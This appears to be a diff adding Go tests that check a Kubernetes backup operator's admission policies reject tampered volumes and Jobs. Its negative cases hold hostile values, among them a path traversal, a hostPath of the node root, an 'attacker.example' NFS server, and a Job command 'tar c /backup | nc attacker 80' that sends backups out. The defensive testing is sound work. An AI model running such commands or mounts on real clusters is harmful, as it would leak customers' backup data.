@@ -358,7 +358,10 @@ func (c *cluster) as(t *testing.T, cfg *rest.Config, user string, groups ...stri
 func TestAdmissionPolicies(t *testing.T) {
 	c := newCluster(t)
 	c.namespace(t, "smartbackup")
-	c.apply(t, decode(t, helm(t)), "smartbackup")
+	// SmartERP on a volume, as the operations page keeps it, so that the volumes policy
+	// is rendered too (the same volume source as configtest's).
+	c.apply(t, decode(t, helm(t, "--set", "storage.smarterp=file:///backup",
+		"--set", "storage.volumeSource=nfs://nfs.backup.internal/exports/smartbackup")), "smartbackup")
 	kube := testenv.StartKube(t)
 	ctx := t.Context()
 
@@ -531,6 +534,24 @@ func TestAdmissionPolicies(t *testing.T) {
 				t.Fatalf("delete = %v, want a refusal by the policy", err)
 			}
 		})
+		t.Run("admitted: a namespace whose server needs TLS (its CA mounted)", func(t *testing.T) {
+			for i, ann := range []string{"smartbackup.io/database-ca-configmap", "smartbackup.io/database-ca-secret"} {
+				n := inject.Namespace{Name: enabled, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp", "smartbackup.io/environment": "production"},
+					Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp",
+						"smartbackup.io/database-sslmode": "verify-full", ann: "postgres-ca"}}
+				s, d := inject.ParseBackup(n, cfg)
+				if d != nil {
+					t.Fatal(d)
+				}
+				cj := cronjobs.Backup(s, cronjobs.Plan{Schedule: "7 21 * * *", KeepDaily: 7, KeepWeekly: 4, KeepMonthly: 3, MaxConcurrentPerServer: 4}, cfg)
+				// Suspended in a namespace without one, and not persisted: only the
+				// volumes are at stake.
+				cj.Namespace, cj.Spec.Suspend = plain, new(true)
+				if _, err := webhook.BatchV1().CronJobs(plain).Create(ctx, cj, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}); err != nil {
+					t.Fatalf("%d: the CronJob of a namespace with %s was refused: %v", i, ann, err)
+				}
+			}
+		})
 		t.Run("admitted: suspending in a namespace no longer enabled, and deleting its own", func(t *testing.T) {
 			cj := good(plain)
 			cj.Spec.Suspend = new(true)
@@ -539,6 +560,116 @@ func TestAdmissionPolicies(t *testing.T) {
 			}
 			if err := webhook.BatchV1().CronJobs(plain).Delete(ctx, cj.Name, metav1.DeleteOptions{}); err != nil {
 				t.Fatalf("deleting its own CronJob was refused: %v", err)
+			}
+		})
+	})
+
+	t.Run("the webhook's backup volumes", func(t *testing.T) {
+		cfg := configtest.New(t, map[string]string{"CRONBACKUP_IMAGE": "smartbackup/cronbackup:0.1.0", "INITRESTORE_IMAGE": "smartbackup/initrestore:0.1.0"})
+		hml := testenv.RandomName("acme-hml-")
+		c.namespace(t, hml)
+		n := inject.Namespace{Name: hml, Labels: map[string]string{"smartbackup.io/enabled": "true", "smartbackup.io/product": "smarterp",
+			"smartbackup.io/environment": "homologation", "smartbackup.io/customer": "acme", "smartbackup.io/restore-source": enabled},
+			Annotations: map[string]string{"smartbackup.io/database-endpoint": "db.svc", "smartbackup.io/database-name": "erp_hml"}}
+		s, d := inject.ParseNamespace(n, cfg)
+		if d != nil {
+			t.Fatal(d)
+		}
+		claims := cronjobs.Claims(s, cfg)
+		if len(claims) != 2 {
+			t.Fatalf("%d claims", len(claims))
+		}
+		own, src := claims[0], claims[1]
+		dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
+		for _, cl := range claims {
+			if _, err := webhook.CoreV1().PersistentVolumes().Create(ctx, cl.PV, dry); err != nil {
+				t.Fatalf("the builder's own PersistentVolume %s was refused: %v", cl.PV.Name, err)
+			}
+			if _, err := webhook.CoreV1().PersistentVolumeClaims(hml).Create(ctx, cl.PVC, dry); err != nil {
+				t.Fatalf("the builder's own claim %s was refused: %v", cl.PVC.Name, err)
+			}
+		}
+		job := cronjobs.ProvisionJob(hml, s.StoragePath, cfg)
+		if _, err := webhook.BatchV1().Jobs("smartbackup").Create(ctx, job, dry); err != nil {
+			t.Fatalf("the builder's own provisioning Job was refused: %v", err)
+		}
+		pvCases := map[string]func(pv *corev1.PersistentVolume){
+			"the node's root": func(pv *corev1.PersistentVolume) {
+				pv.Spec.NFS, pv.Spec.HostPath = nil, &corev1.HostPathVolumeSource{Path: "/"}
+			},
+			"another customer's directory": func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup/globex-prd" },
+			"a way up":                     func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup/" + hml + "/.." },
+			"the whole volume":             func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/smartbackup" },
+			"another export":               func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Path = "/exports/other/" + hml },
+			"another server":               func(pv *corev1.PersistentVolume) { pv.Spec.NFS.Server = "attacker.example" },
+			"pre-bound to another namespace": func(pv *corev1.PersistentVolume) {
+				pv.Spec.ClaimRef.Namespace = "globex-hml"
+			},
+			"Delete instead of Retain": func(pv *corev1.PersistentVolume) {
+				pv.Spec.PersistentVolumeReclaimPolicy = corev1.PersistentVolumeReclaimDelete
+			},
+			"not labelled": func(pv *corev1.PersistentVolume) { delete(pv.Labels, "app.kubernetes.io/managed-by") },
+		}
+		for name, mod := range pvCases {
+			t.Run("refused: a PersistentVolume of "+name, func(t *testing.T) {
+				pv := own.PV.DeepCopy()
+				mod(pv)
+				_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
+				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+					t.Fatalf("create = %v, want a refusal by the policy", err)
+				}
+			})
+		}
+		t.Run("refused: a source volume of the whole volume, or deeper", func(t *testing.T) {
+			for _, p := range []string{"/exports/smartbackup", "/exports/smartbackup/" + enabled + "/x", "/exports/smartbackup/../etc"} {
+				pv := src.PV.DeepCopy()
+				pv.Spec.NFS.Path = p
+				_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
+				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+					t.Errorf("%s: create = %v, want a refusal by the policy", p, err)
+				}
+			}
+		})
+		t.Run("refused: a writable source volume", func(t *testing.T) {
+			pv := src.PV.DeepCopy()
+			pv.Spec.NFS.ReadOnly = false
+			_, err := webhook.CoreV1().PersistentVolumes().Create(ctx, pv, dry)
+			if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+				t.Fatalf("create = %v, want a refusal by the policy", err)
+			}
+		})
+		t.Run("refused: a claim of another namespace's volume", func(t *testing.T) {
+			pvc := own.PVC.DeepCopy()
+			pvc.Spec.VolumeName = cronjobs.PVName(enabled, false)
+			_, err := webhook.CoreV1().PersistentVolumeClaims(hml).Create(ctx, pvc, dry)
+			if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+				t.Fatalf("create = %v, want a refusal by the policy", err)
+			}
+		})
+		jobCases := map[string]func(j *batchv1.Job){
+			"another namespace's directory": func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Args[2] = "globex-prd" },
+			"another image":                 func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Image = "attacker/tools:latest" },
+			"a command": func(j *batchv1.Job) {
+				j.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "tar c /backup | nc attacker 80"}
+			},
+			"another name": func(j *batchv1.Job) { j.Name = "miner" },
+		}
+		for name, mod := range jobCases {
+			t.Run("refused: a Job with "+name, func(t *testing.T) {
+				j := job.DeepCopy()
+				mod(j)
+				_, err := webhook.BatchV1().Jobs("smartbackup").Create(ctx, j, dry)
+				if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+					t.Fatalf("create = %v, want a refusal by the policy", err)
+				}
+			})
+		}
+		t.Run("refused: a provisioning Job in a tenant namespace", func(t *testing.T) {
+			j := job.DeepCopy()
+			j.Namespace = hml
+			_, err := webhook.BatchV1().Jobs(hml).Create(ctx, j, dry)
+			if err == nil || !(strings.Contains(err.Error(), "ValidatingAdmissionPolicy") || apierrors.IsForbidden(err)) {
+				t.Fatalf("create = %v, want a refusal", err)
 			}
 		})
 	})
